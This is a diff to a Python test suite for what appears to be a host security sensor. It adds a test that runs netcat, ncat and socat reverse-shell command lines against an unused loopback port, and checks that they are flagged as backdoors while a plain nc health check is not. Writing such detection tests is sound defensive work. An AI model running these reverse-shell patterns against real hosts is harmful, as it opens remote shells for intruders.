@@ -6,6 +6,7 @@ from __future__ import annotations
 import json
 import os
 import shutil
+import socket
 import subprocess
 import sys
 import tempfile
@@ -158,3 +159,26 @@ def test_the_hosts_own_memfd_launcher_is_not_evidence_but_a_memfd_below_it_is(tm
     # Both were seen: the benign one is quiet because of the base, not because it was missed.
     every = [line["columns"]["cmdline"] for line in lines if line["name"].endswith("netutil_every_execution")]
     assert any(f"benign-{tag}" in c for c in every) and any(f"evil-{tag}" in c for c in every)
+
+
+def test_reverse_shells_to_loopback_are_detected_and_health_checks_are_not(sensor: Sensor, workdir: Path) -> None:
+    """A reverse shell into a local tunnel endpoint is still a reverse shell: the loopback
+    exception is for health checks only. Nothing listens on the port: each tool exits at
+    once (netcat-openbsd even refuses -e), and its exec is what counts."""
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        port = s.getsockname()[1]
+    tag = uuid.uuid4().hex[:10]
+    shells = [f"nc -e /bin/sh 127.0.0.1 {port} {tag}",
+              f"ncat --sh-exec 'true {tag}' 127.0.0.1 {port}",
+              f"socat TCP:127.0.0.1:{port} EXEC:'/bin/true {tag}'"]
+    health = f"nc -z -w 1 127.0.0.1 {port} {tag}-health"
+    script = write_executable(workdir / "rs.sh", "#!/bin/sh\n" + "\n".join(f"{c} 2>/dev/null" for c in shells) + "\n")
+    subprocess.run([str(script)], timeout=30)
+    subprocess.run(["/bin/sh", "-c", health + " 2>/dev/null"], timeout=30)
+    hits = detections(sensor, "netutil_backdoor_arguments", tag)
+    assert sorted(h["utility"] for h in hits if "-health" not in h["cmdline"]) == ["ncat", "netcat", "socat"], hits
+    assert not [h for h in hits if "-health" in h["cmdline"]]
+    # Launched from /tmp, the nc is a location detection too; the health check is not.
+    located = detections(sensor, "netutil_host_suspicious_location", tag)
+    assert {h["utility"] for h in located} >= {"netcat"} and not [h for h in located if "-health" in h["cmdline"]]
